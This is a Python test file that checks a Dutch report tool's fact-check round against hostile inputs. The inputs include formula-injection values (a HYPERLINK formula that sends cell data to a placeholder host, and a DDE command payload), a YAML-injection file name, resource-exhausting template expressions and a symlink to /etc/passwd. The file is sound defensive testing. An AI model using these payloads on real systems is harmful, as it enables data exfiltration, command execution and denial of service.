"""The review and fact-check round as a trust boundary: what goes out and comes back stays what it was.

Every case is generated here and runs the real command in a subprocess under
the suite's limits (tests/hostile.py: 1 GB, 60 s of CPU). Packets go to the
pilots and forms and DOCX files come back from them: no value in a workbook we
send may become a formula, nothing that comes back may become source, a form
must prove which pilot and round it belongs to, and no command may overwrite
an input or the history.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document as open_docx

from report.engagement.folders import LETTER_FILE
from tests.hostile import ROOT, assert_refused, run, small_inputs
from tests.tracked import insert, track

HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&C7,"x")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE_ANSWERS = {"P1": HYPERLINK, "P5": DDE, "A1": "=1+1", "P3": "+1+1", "P4": "@SUM(A1)", "A5": "-2+3"}


def _hostile_inputs(folder: Path) -> Path:
    inputs = small_inputs(folder, answers={"T002": HOSTILE_ANSWERS})
    shutil.copy(ROOT / "inputs" / LETTER_FILE, inputs / LETTER_FILE)
    return inputs


def _cells(path: Path):
    """Every cell of every sheet (hidden ones too), as openpyxl reads it with formulas kept."""
    workbook = openpyxl.load_workbook(path)
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(path: Path) -> list[str]:
    """No formula in the package (any sheet's XML) nor as openpyxl reads it; returns the texts."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = package.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
    return [str(c.value) for c in cells if c.value is not None]


def test_no_workbook_a_command_writes_holds_a_formula(tmp_path):
    inputs = _hostile_inputs(tmp_path / "invoer")
    out = tmp_path / "uit"
    word = open_docx()
    paragraph = word.add_paragraph("Een tekst van elders.")
    track(paragraph, "elders", "=1+1", HYPERLINK)
    word.add_paragraph(DDE)
    word.save(tmp_path / "terug.docx")
    commands = {
        "vragenlijst": ("vragenlijst", "--variant", "lang", "--titel", DDE, "-o", str(out / "v.xlsx")),
        "codering": ("codering", "--inputs", str(inputs), "-o", str(out / "c.xlsx")),
        "figuren": ("figuren", "--inputs", str(inputs), "--output", str(out / "figuren")),
        "wederhoor": ("wederhoor", "--inputs", str(inputs), "--output", str(out)),
        "opmerkingen": ("opmerkingen", str(tmp_path / "terug.docx"), "--inputs", str(inputs),
                        "-o", str(out / "lijst.xlsx")),
    }
    for name, args in commands.items():
        code, output = run(*args)
        assert code == 0 and "Traceback" not in output, (name, output)
    written = sorted(out.rglob("*.xlsx"))
    assert {p.name for p in written} >= {"v.xlsx", "c.xlsx", "figuurdata.xlsx", "overzicht.xlsx",
                                         "wederhoorformulier-T002.xlsx", "lijst.xlsx"}
    texts = {path.name: _assert_no_formula(path) for path in written}
    assert DDE in texts["v.xlsx"][0]
    assert HYPERLINK in texts["c.xlsx"], [t for t in texts["c.xlsx"] if "HYPER" in t]
    assert {HYPERLINK, DDE} <= set(texts["overzicht.xlsx"])
    form = texts["wederhoorformulier-T002.xlsx"]
    assert "=1+1" in form and form.count("=1+1") >= 2             # shown and in the hidden sheet
    assert "=1+1" in texts["lijst.xlsx"]
    assert not [t for texts_of in texts.values() for t in texts_of if "\u200b" in t]   # no break points in data


# ---------------------------------------------------------------- the fact-check round


@pytest.fixture(scope="module")
def packets(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("pakketten")
    inputs = small_inputs(tmp / "invoer", pilots=3)
    shutil.copy(ROOT / "inputs" / LETTER_FILE, inputs / LETTER_FILE)
    code, output = run("wederhoor", "--inputs", str(inputs), "--output", str(tmp / "uit"))
    assert code == 0, output
    return inputs, tmp / "uit" / "wederhoor"


def _returned(packets, tmp_path: Path, pilot_id: str, name: str, value: object, reason: str = "",
              claim: str | None = None) -> tuple[Path, Path]:
    """A copy of the inputs and a folder with `pilot_id`'s form filled in (A8 := value), saved as `name`."""
    inputs, root = packets
    inputs = shutil.copytree(inputs, tmp_path / "invoer")
    workbook = openpyxl.load_workbook(root / pilot_id / f"wederhoorformulier-{pilot_id}.xlsx")
    for row in workbook["Wederhoor"].iter_rows():
        if row[0].value == "A8":
            row[3].value, row[4].value = value, reason
    if claim is not None:                       # what a forger does: unhide the sheet, type another pilot
        workbook["Verstuurd"].sheet_state = "visible"
        workbook["Verstuurd"]["A1"] = claim
    folder = tmp_path / "terug"
    folder.mkdir()
    workbook.save(folder / name)
    return inputs, folder


def _corrections(inputs: Path):
    from report.read.corrections import read_corrections
    found, problems = read_corrections(inputs / "correcties.yaml")
    assert not problems
    return [(c.pilot_id, c.answer.question_id, c.answer.value, c.answer.correction.reason) for c in found]


def test_a_file_name_or_reason_cannot_add_a_correction_nobody_sees(packets, tmp_path):
    injected = "\n- pilot: T002\n  vraag: A8\n  waarde: 999\n  reden: r\n  ronde: r\n#"
    inputs, folder = _returned(packets, tmp_path, "T001", f"a{injected}.xlsx", 4321, f"Telling{injected}")
    before = _corrections(inputs)
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert code == 0 and "Traceback" not in output, output
    after = _corrections(inputs)
    assert after[:len(before)] == before
    assert after[len(before):] == [("T001", "A8", 4321, " ".join(f"Telling{injected}".split()))]


def test_a_forged_form_does_not_correct_another_pilot(packets, tmp_path):
    inputs, folder = _returned(packets, tmp_path, "T001", "formulier.xlsx", 4321, claim="T002")
    before = (inputs / "correcties.yaml").read_bytes() if (inputs / "correcties.yaml").exists() else None
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert_refused(code, output, "formulier.xlsx", "zegel")
    after = (inputs / "correcties.yaml").read_bytes() if (inputs / "correcties.yaml").exists() else None
    assert after == before


def test_a_form_without_the_team_key_is_not_processed(packets, tmp_path):
    inputs, folder = _returned(packets, tmp_path, "T001", "formulier.xlsx", 4321)
    (inputs / "wederhoor-sleutel.txt").unlink()
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert_refused(code, output, "wederhoor-sleutel.txt")


def test_the_team_key_stays_with_the_team(packets):
    inputs, root = packets
    key = (inputs / "wederhoor-sleutel.txt").read_text(encoding="ascii").splitlines()[-1]
    assert len(key) == 64 and (inputs / "wederhoor-sleutel.txt").stat().st_mode & 0o077 == 0
    for path in root.rglob("*"):
        if path.is_file():
            with zipfile.ZipFile(path) if path.suffix in (".xlsx", ".docx") else open(path, "rb") as f:
                data = b"".join(f.read(n) for n in f.namelist()) if isinstance(f, zipfile.ZipFile) else f.read()
            assert key.encode() not in data, path.name


def test_a_file_named_for_another_pilot_is_named_in_a_warning(packets, tmp_path):
    inputs, folder = _returned(packets, tmp_path, "T001", "wederhoorformulier-T002.xlsx", 4321)
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert code == 0 and "Traceback" not in output, output
    assert "De bestandsnaam noemt pilot T002" in output
    assert _corrections(inputs)[-1][:3] == ("T001", "A8", 4321)


def test_a_fifo_among_the_returned_forms_is_passed_over(packets, tmp_path):
    inputs, folder = _returned(packets, tmp_path, "T001", "formulier.xlsx", 4321)
    import os
    os.mkfifo(folder / "pijp.xlsx")
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert code == 0 and "Traceback" not in output, output


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252"])
def test_verwerk_reads_correcties_yaml_in_every_encoding_check_accepts(packets, tmp_path, encoding):
    inputs, folder = _returned(packets, tmp_path, "T001", "formulier.xlsx", 4321)
    (inputs / "correcties.yaml").write_text("# Correcties (café)\n", encoding=encoding)
    code, output = run("wederhoor", "--inputs", str(inputs), "--verwerk", str(folder))
    assert code == 0 and "Traceback" not in output, output
    assert (inputs / "correcties.yaml").read_text(encoding="utf-8").startswith("# Correcties (café)")
    assert _corrections(inputs) == [("T001", "A8", 4321, "Gecorrigeerd door de pilot bij de wederhoor "
                                                          "(zonder toelichting).")]


# ---------------------------------------------------------------- the letter is a narrative text


def _letter_inputs(tmp_path: Path, letter: str | None = None) -> Path:
    inputs = small_inputs(tmp_path / "invoer")
    if letter is not None:
        (inputs / LETTER_FILE).write_text(letter, encoding="utf-8")
    return inputs


@pytest.mark.parametrize("letter, words", [
    ("Beste {{ pilot }},\n\n{{ 'x' * 10**9 }}\n", ("regel 3", "te lang")),
    ("Beste {{ pilot }},\n{{ '%0999999999d' | format(1) }}\n", ("regel 2", "breedte")),
    ("{{ 'x' | center(999999999) }}\n", ("regel 1", "breedte")),
    ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}\n", ("regel 1", "reeksen (range)")),
])
def test_the_letter_renders_under_the_narrative_limits(tmp_path, letter, words):
    inputs = _letter_inputs(tmp_path, letter)
    code, output = run("wederhoor", "--inputs", str(inputs), "--output", str(tmp_path / "uit"))
    assert_refused(code, output, LETTER_FILE, *words)
    assert not (tmp_path / "uit" / "wederhoor").exists()


def test_a_linked_letter_is_refused(tmp_path):
    inputs = _letter_inputs(tmp_path)
    (inputs / LETTER_FILE).symlink_to("/etc/passwd")
    code, output = run("wederhoor", "--inputs", str(inputs), "--output", str(tmp_path / "uit"))
    assert_refused(code, output, LETTER_FILE, "koppeling")
    assert not (tmp_path / "uit" / "wederhoor").exists()


def test_padding_in_a_narrative_text_is_refused_before_it_runs(tmp_path):
    inputs = small_inputs(tmp_path / "invoer", texts={
        "1-inleiding.md": "# Inleiding\n\nTekst.\n{{ '%0999999999d' | format(1) }}\n",
        "bijlage-a.md": "# Factsheets\n\n{{ 'x' | center(999999999) }}\n"})
    code, output = run("build", "--inputs", str(inputs), "--output", str(tmp_path / "uit"))
    assert_refused(code, output, "1-inleiding.md", "regel 4", "bijlage-a.md", "regel 3", "breedte")


# ---------------------------------------------------------------- personal data as it was typed


@pytest.mark.parametrize("text, kind, value", [
    ("Mail jan.de.vries.van.der.projectleider@rechtsbijstand-regio-noord.nl voor meer.", "e-mailadres",
     "jan.de.vries.van.der.projectleider@rechtsbijstand-regio-noord.nl"),
    ("Mail j.jansen\u200b@voorbeeld.nl gerust.", "e-mailadres", "j.jansen\u200b@voorbeeld.nl"),
    ("Stort op NL91 ABNA 0417 1643 00 en vermeld de pilot.", "IBAN", "NL91 ABNA 0417 1643 00"),
    ("Bel 06\u00a01234\u00ad5678 na vijven.", "telefoonnummer", "06\u00a01234\u00ad5678"),
])
def test_personal_data_is_found_with_layout_characters_typed_inside(text, kind, value):
    from report.privacy.detect import find_personal_data
    found = find_personal_data(text)
    assert [(f.kind, f.value, text[f.start:f.start + len(f.value)]) for f in found] == [(kind, value, value)]


def test_check_finds_a_long_e_mail_address_in_an_answer(tmp_path):
    address = "jan.de.vries.van.der.projectleider@rechtsbijstand-regio-noord.nl"
    inputs = small_inputs(tmp_path / "invoer", answers={"T002": {"A1": f"Mail {address} of NL91 ABNA 0417 "
                                                                        "1643 00 voor giften."}})
    code, output = run("check", "--inputs", str(inputs))
    assert code == 0 and "Traceback" not in output, output
    assert "e-mailadres" in output and "IBAN" in output


def test_long_ids_and_look_alike_ids_match_their_coding_row(tmp_path):
    long_id = "PILOT-" + "X" * 44
    inputs = small_inputs(tmp_path / "invoer", ids=(long_id,))
    code, output = run("check", "--inputs", str(inputs))
    assert code == 0 and "Traceback" not in output, output
    assert "codering" not in output.lower() or long_id not in output


def test_ids_and_names_lose_bidi_and_zero_width_characters_and_are_nfc():
    from report.read.values import as_text
    assert as_text("Cafe\u0301\u202e \u200bX") == "Café X"


# ---------------------------------------------------------------- tracked changes stay words


REVIEWED_TEXT = ("# Inleiding\n\n{% set strafrechtpilots = 4 %}Het rapport telt {{ totaal() | pilots }}; "
                 "{{ strafrechtpilots | pilots }} vallen erbuiten.\n\nDit is een gewone zin.\n\nNog een zin daarna.\n")
SMUGGLED = ("{% set strafrechtpilots = 40 %}{{ namen(K1='scheiden') }} <!-- [[figuur K1]] ::: kader X "
            "[^1] *nadruk* | &amp; \\ `code` {#sleutel}")


def _paragraphs(folder: Path) -> list[str]:
    (docx,) = folder.glob("*.docx")
    return [p.text for p in open_docx(docx).paragraphs if p.text.strip()]


def test_toepassen_writes_a_reviewers_words_as_words_and_moves_no_number(tmp_path):
    inputs = small_inputs(tmp_path / "invoer", texts={"1-inleiding.md": REVIEWED_TEXT,
                                                       "bijlage-a.md": "# Factsheets\n\nPer pilot.\n"})
    code, output = run("build", "--inputs", str(inputs), "--output", str(tmp_path / "voor"), "--format", "docx")
    assert code == 0, output
    before = _paragraphs(tmp_path / "voor")
    (built,) = (tmp_path / "voor").glob("*.docx")
    word = open_docx(built)
    plain = next(p for p in word.paragraphs if p.text == "Dit is een gewone zin.")
    track(plain, "gewone", SMUGGLED, "Lezer")
    insert(next(p for p in word.paragraphs if p.text == "Nog een zin daarna."), "Nog", "# ", "Lezer")
    word.save(tmp_path / "terug.docx")

    code, output = run("opmerkingen", str(tmp_path / "terug.docx"), "--inputs", str(inputs), "--toepassen",
                       "-o", str(tmp_path / "lijst.xlsx"))
    assert code == 0 and "Traceback" not in output, output
    assert "2 toegepast" in output, output
    code, output = run("build", "--inputs", str(inputs), "--output", str(tmp_path / "na"), "--format", "docx")
    assert code == 0, output
    after = _paragraphs(tmp_path / "na")
    expected = [text.replace("Dit is een gewone zin.", f"Dit is een {SMUGGLED} zin.")
                .replace("Nog een zin daarna.", "# Nog een zin daarna.") for text in before]
    assert after == expected                 # exactly the tracked changes; "vier pilots" did not move

    source = (inputs / "teksten" / "1-inleiding.md").read_text(encoding="utf-8")
    code, output = run("opmerkingen", str(tmp_path / "terug.docx"), "--inputs", str(inputs), "--toepassen",
                       "-o", str(tmp_path / "lijst.xlsx"))
    assert code == 0 and "Traceback" not in output, output
    assert (inputs / "teksten" / "1-inleiding.md").read_text(encoding="utf-8") == source   # applied once


# ---------------------------------------------------------------- writing never destroys inputs or history


def test_output_options_never_replace_inputs_history_or_returned_files(tmp_path):
    inputs = small_inputs(tmp_path / "invoer")
    narrative = inputs / "teksten" / "1-inleiding.md"
    returned = inputs / "vragenlijsten" / "T001.xlsx"
    history = tmp_path / "uit"
    history.mkdir()
    report, snapshot = history / "rapport-v1.0.docx", history / "rapport-v1.0.snapshot.json"
    word = open_docx()
    word.add_paragraph("Een tekst.")
    word.save(report)
    snapshot.write_text("{}", encoding="utf-8")
    outside = tmp_path / "bestaand.xlsx"
    outside.write_bytes(b"werk van een collega")
    protected = {path: path.read_bytes() for path in (narrative, returned, report, snapshot, outside)}
    cases = [
        (("wijzigingen", "--inputs", str(inputs), "-o", str(narrative)), "invoermap"),
        (("wijzigingen", "--inputs", str(inputs), "-o", str(report)), "uitgebracht rapport"),
        (("wijzigingen", "--inputs", str(inputs), "-o", str(snapshot)), "uitgebracht rapport"),
        (("vragenlijst", "--variant", "lang", "-o", str(outside)), "--overschrijven"),
        (("codering", "--inputs", str(inputs), "-o", str(returned)), "invoermap"),
        (("codering", "--inputs", str(inputs), "-o", str(outside)), "--overschrijven"),
        (("opmerkingen", str(report), "--inputs", str(inputs), "-o", str(history / "rapport-v1.0.xlsx")),
         "uitgebracht rapport"),
        (("opmerkingen", str(report), "--inputs", str(inputs), "-o", str(inputs / "lijst.xlsx")), "invoermap"),
    ]
    for args, words in cases:
        code, output = run(*args)
        assert_refused(code, output, words)
    assert {path: path.read_bytes() for path in protected} == protected


def test_overschrijven_replaces_another_existing_file(tmp_path):
    inputs = small_inputs(tmp_path / "invoer")
    target = tmp_path / "lijst.md"
    target.write_text("oud", encoding="utf-8")
    (tmp_path / "uit").mkdir()
    code, output = run("wijzigingen", "--inputs", str(inputs), "--output", str(tmp_path / "uit"), "-o", str(target))
    assert_refused(code, output, "--overschrijven")
    assert target.read_text(encoding="utf-8") == "oud"
    code, output = run("build", "--inputs", str(inputs), "--output", str(tmp_path / "uit"), "--format", "html")
    assert code == 0, output                 # a snapshot to compare with (the HTML edition needs no layout)
    code, output = run("wijzigingen", "--inputs", str(inputs), "--output", str(tmp_path / "uit"), "-o", str(target),
                       "--overschrijven")
    assert code == 0, output
    assert target.read_text(encoding="utf-8").startswith("# Wijzigingen")


def test_wederhoor_on_an_unwritable_output_writes_no_packet_and_says_why(tmp_path):
    inputs = _letter_inputs(tmp_path)
    shutil.copy(ROOT / "inputs" / LETTER_FILE, inputs / LETTER_FILE)
    out = tmp_path / "uit"
    (out / "wederhoor" / "T002").mkdir(parents=True)
    (out / "wederhoor" / "T002" / "factsheet-T002.pdf").mkdir()      # a folder where a file must go
    code, output = run("wederhoor", "--inputs", str(inputs), "--output", str(out))
    assert_refused(code, output, "factsheet-T002.pdf", "geen pakket")
    assert [p.name for p in (out / "wederhoor").rglob("*") if p.is_file()] == []


# ---------------------------------------------------------------- consistent edges


@pytest.mark.parametrize("text, words", [
    ("- waarde: a\x07b\n  reden: r\n", ()),
    ("- waarde: &a x\n  reden: *a\n", ("verwijzingen",)),
    ("- waarde: " + "[" * 200 + "]" * 200 + "\n  reden: r\n", ("genest",)),
])
def test_privacy_exceptions_are_read_by_the_one_bounded_yaml_reader(tmp_path, text, words):
    from report.privacy.exceptions import EXCEPTIONS_FILE
    inputs = small_inputs(tmp_path / "invoer")
    (inputs / EXCEPTIONS_FILE).write_text(text, encoding="utf-8")
    code, output = run("check", "--inputs", str(inputs))
    assert "Traceback" not in output, output
    assert all(word in output for word in words), output


def test_pilot_folder_names_are_safe_on_windows():
    from report.factcheck.names import folder_names
    names = folder_names(["CON", "aux", "Lpt1.x", "P01"])
    assert names == {"CON": "pilot-CON", "aux": "pilot-aux", "Lpt1.x": "pilot-Lpt1.x", "P01": "P01"}
